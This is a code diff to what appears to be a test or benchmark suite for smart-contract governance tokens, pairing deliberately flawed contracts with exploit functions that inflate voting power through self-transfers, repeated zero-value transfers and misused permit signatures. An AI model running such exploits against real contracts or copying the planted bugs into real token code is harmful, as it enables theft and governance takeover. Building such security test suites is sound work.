@@ -3,9 +3,9 @@ import { concatHex, type Hex, keccak256, numberToHex, pad, parseSignature, strin
 import { type Case, WEAK } from '../case.ts'
 import type { Built, Chain } from '../chain.ts'
 import { upgradeCall } from '../safes.ts'
-import { proposal } from './lists.ts'
+import { proposal, TENTH, TIMES, voted } from './lists.ts'
 import { controlledBy, part } from './lying-getters.ts'
-import { type Draft, mintBy, sendSigned, VOTES, voteAfter, voted } from './walks.ts'
+import { type Draft, mintBy, sendSigned, VOTES, voteAfter } from './walks.ts'
 
 const DELEGATE = 'delegateBySig(address,uint256,uint256,uint8,bytes32,bytes32)'
 const PERMIT = 'permit(address,address,uint256,uint256,uint8,bytes32,bytes32)'
@@ -53,23 +53,25 @@ const DOMAIN = keccak256(stringToHex('EIP712Domain(address verifyingContract)'))
 const digestOf = (token: Hex, ...words: readonly Hex[]): Hex =>
   hashOf('0x1901', hashOf(DOMAIN, pad(token)), hashOf(DELEGATION, ...words))
 
-/** One account has the least amount. */
+/** One account has a tenth of all votes. */
 const holding = (name: string): Case['build'] =>
   voted('HonestBallots', async (chain) => {
     const token = await chain.deploy(name)
-    await chain.send(token, 'transfer(address,uint256)', [chain.hidden().address, 1n])
+    await chain.send(token, 'transfer(address,uint96)', [chain.hidden().address, TENTH])
     return token
   })
 /** Moves all it has to itself, until it has more than all others. */
-const doubleTo = (enough: bigint): Case['exploit'] =>
-  voteAfter(async (attack, token) => {
-    for (;;) {
-      const votes = BigInt(await attack.read(token, 'getVotes(address)', [attack.account.address]))
-      if (votes > enough) return
-      const amount = BigInt(await attack.read(token, 'balanceOf(address)', [attack.account.address]))
-      await attack.send(token, 'move(address,uint256)', [attack.account.address, amount])
-    }
-  })
+const doubled: Case['exploit'] = voteAfter(async (attack, token) => {
+  for (;;) {
+    const [votes, balance] = await Promise.all(
+      ['getVotes(address)', 'balanceOf(address)'].map(async (name) =>
+        BigInt(await attack.read(token, name, [attack.account.address])),
+      ),
+    )
+    if ((votes ?? 0n) + (balance ?? 0n) > 10n * TENTH) return
+    await attack.send(token, 'move(address,uint96)', [attack.account.address, balance])
+  }
+})
 /** A holder has voted for a proposal without a risk. */
 const passed =
   (name: string, propose: (chain: Chain, governor: Hex, admin: Hex) => Promise<Hex>): Case['build'] =>
@@ -78,8 +80,8 @@ const passed =
     const token = await chain.deploy('CheckpointToken', holder)
     const governor = await chain.deploy(name, token)
     const built = await controlledBy(chain, governor, { token })
-    const id = await propose(chain, governor, part(built, 'admin'))
     await chain.send(token, 'delegate(address)', [holder], holder)
+    const id = await propose(chain, governor, part(built, 'admin'))
     await chain.send(governor, 'vote(bytes32,bool)', [id, true], holder)
     return built
   }
@@ -186,22 +188,23 @@ const drafts: readonly Draft[] = [
     cause: 'lying getter',
     by: 'one key',
     build: holding('DoubledTransfer'),
-    exploit: doubleTo(1_000n),
+    exploit: doubled,
   },
   {
     name: 'a transfer to oneself adds to the balance before it',
     cause: 'lying getter',
     by: 'one key',
     build: holding('StaleTransfer'),
-    exploit: doubleTo(1_000n),
+    exploit: doubled,
   },
   {
     name: 'every transfer of nothing gives a vote',
     cause: 'lying getter',
     build: plain('CountedTransfers'),
-    exploit: voteAfter((attack, token) =>
-      attack.send(token, 'transfer(address,uint256)', [attack.account.address, 0n]),
-    ),
+    exploit: voteAfter(async (attack, token) => {
+      for (let n = 0; n < TIMES; n += 1)
+        await attack.send(token, 'transfer(address,uint96)', [attack.account.address, 0n])
+    }),
   },
   {
     name: 'a caller delegates the votes of all accounts that have signed anything',
@@ -293,10 +296,10 @@ const drafts: readonly Draft[] = [
       await sendSigned(attack, token, PERMIT, [
         ['address', holder],
         ['address', attack.account.address],
-        ['uint256', 1n],
+        ['uint256', 5n * TENTH],
         ['uint256', 0n],
       ])
-      await attack.send(token, 'transferFrom(address,address,uint256)', [holder, attack.account.address, 1n])
+      await attack.send(token, 'transferFrom(address,address,uint96)', [holder, attack.account.address, 5n * TENTH])
     }),
   },
   {
